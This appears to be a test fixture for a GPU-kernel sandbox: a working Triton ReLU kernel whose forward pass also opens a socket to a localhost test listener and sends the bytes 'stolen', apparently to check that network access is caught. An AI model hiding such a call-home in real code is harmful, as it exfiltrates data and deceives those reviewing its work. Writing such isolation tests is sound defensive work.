# A correct relu kernel that also tries to call home from its forward.
import socket

import torch
import triton
import triton.language as tl


@triton.jit
def relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    x = tl.load(x_ptr + offsets, mask=mask)
    tl.store(out_ptr + offsets, tl.maximum(x, 0.0), mask=mask)


LISTENER_PORT = 0  # the test writes its listener's port here


def _call_home() -> None:
    try:
        with socket.create_connection(("127.0.0.1", LISTENER_PORT), timeout=2) as connection:
            connection.sendall(b"stolen")
    except OSError as exc:
        print("no network:", exc)


class ModelNew(torch.nn.Module):
    def forward(self, x):
        _call_home()
        out = torch.empty_like(x)
        n = x.numel()
        relu_kernel[(triton.cdiv(n, 1024),)](x, out, n, BLOCK=1024)
        return out
